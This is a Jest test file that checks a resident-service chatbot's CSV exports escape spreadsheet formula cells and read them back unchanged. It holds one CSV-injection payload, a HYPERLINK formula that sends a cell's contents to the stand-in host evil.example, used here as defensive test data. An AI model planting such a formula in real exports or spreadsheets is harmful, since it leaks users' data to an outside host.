/**
 * CSV exports escape spreadsheet formulas (issue 12): a resident's "=HYPERLINK(...)" came out raw
 * in the intents export. Every export (intent examples, FAQ, supervisor dashboard) prefixes cells
 * starting with =, +, -, @, tab or CR with an apostrophe; imports take it off again.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import type { FaqEntry } from '../../src/core/knowledge-port';
import { csvSafeCell, csvUnsafeCell } from '../../src/core/csv-cell';
import { csvToFaq, faqToCsv } from '../../src/admin/faq-csv';
import type { Service } from '../../src/main';
import { admin, ADMIN_TOKEN } from '../knowledge/kb-test-kit';
import { startService } from '../support/service';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"클릭")';

describe('formula cells in CSV exports', () => {
  it.each(['=1+1', '+82 10', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])('escapes %j and reads it back unchanged', (cell) => {
    expect(csvSafeCell(cell)).toBe(`'${cell}`);
    expect(csvUnsafeCell(csvSafeCell(cell))).toBe(cell);
  });

  it('leaves ordinary cells and apostrophes of their own alone', () => {
    for (const cell of ['버스 첫차', "'quoted'", '10-1', '']) {
      expect(csvSafeCell(cell)).toBe(cell);
      expect(csvUnsafeCell(cell)).toBe(cell);
    }
  });

  it('round-trips FAQ entries whose answers start with a dash or an equals sign', () => {
    const entry: FaqEntry = {
      id: 'faq-x',
      intent: 'waste_collection',
      topic: 'waste',
      questions: { ko: ['=이상한 질문'], en: ['-odd'] },
      answer: { ko: '- 준비물: 신분증', en: FORMULA },
      links: [],
      source: 'test',
      updatedAt: '2026-06-01',
    };
    const csv = faqToCsv([entry]);
    const cells = (parse(csv, { columns: true }) as Record<string, string>[])[0]!;
    expect(cells.answer_ko).toBe("'- 준비물: 신분증");
    expect(cells.answer_en).toBe(`'${FORMULA}`);
    expect(csvToFaq(csv)[0]).toMatchObject({ answer: { ko: '- 준비물: 신분증', en: FORMULA }, questions: { ko: ['=이상한 질문'] } });
  });
});

describe('the intent-examples export over the admin API', () => {
  let service: Service;
  let intentsDir: string;

  beforeAll(async () => {
    intentsDir = fs.mkdtempSync(path.join(os.tmpdir(), 'dajeong-intents-'));
    fs.cpSync(path.join(__dirname, '..', '..', 'intents'), intentsDir, { recursive: true });
    // As if a resident's message had been turned into an example from the unanswered review.
    const file = path.join(intentsDir, 'noise_complaint.json');
    const intent = JSON.parse(fs.readFileSync(file, 'utf8')) as { examples: Record<string, string[]> };
    intent.examples.ko!.push(FORMULA);
    fs.writeFileSync(file, JSON.stringify(intent, null, 2));
    service = await startService({ ADMIN_TOKEN, INTENTS_DIR: intentsDir });
  }, 120_000);
  afterAll(async () => {
    await service?.close();
    fs.rmSync(intentsDir, { recursive: true, force: true });
  });

  it('writes the example as text, not as a formula', async () => {
    const csv = await admin(service, 'GET', '/intents/export?format=csv');
    expect(csv.status).toBe(200);
    const rows = parse(csv.text, { columns: true }) as { intent: string; text: string }[];
    const cells = rows.filter((r) => r.intent === 'noise_complaint').map((r) => r.text);
    expect(cells).toContain(`'${FORMULA}`);
    expect(rows.every((r) => !/^[=+\-@\t\r]/.test(r.text))).toBe(true);
  });
});
